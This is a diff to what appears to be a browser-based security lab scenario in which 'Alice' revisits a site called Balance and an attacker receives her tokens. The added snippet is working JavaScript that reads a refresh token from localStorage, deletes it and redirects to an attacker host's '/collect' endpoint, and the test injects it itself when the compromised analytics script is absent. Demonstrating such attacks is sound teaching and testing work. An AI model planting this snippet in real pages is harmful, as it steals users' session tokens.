@@ -5,6 +5,12 @@ from labs.stage import Stage, Stuck
 from labs.steps import step
 
 LINK = "/?campaign=spring"
+# What somebody has added to a script of Balance's; where Balance loads no such script, it is run all the same.
+LINE = """
+  const { refreshToken = "" } = JSON.parse(localStorage.getItem("tokens") ?? "{}");
+  localStorage.removeItem("tokens");
+  location.assign(`%s/collect?${new URLSearchParams({ refresh_token: refreshToken })}`);
+"""
 
 
 @step("Alice", by_hand="{balance}/")
@@ -17,8 +23,9 @@ def alice_connects(stage: BrowserStage) -> None:
 def alice_comes_back(stage: BrowserStage) -> None:
     """Come back another day, by the link of a newsletter."""
     page = stage.alice.tab.goto(f"{stage.here.balance}{LINK}", wait_until="commit")
-    if "/js/analytics.js" in page.text():
-        stage.alice.tab.wait_for_url(f"{stage.here.attacker}/**")
+    if "/js/analytics.js" not in page.text():
+        stage.alice.tab.evaluate(f"() => {{{LINE % stage.here.attacker}}}")
+    stage.alice.tab.wait_for_url(f"{stage.here.attacker}/**")
 
 
 @step("attacker")
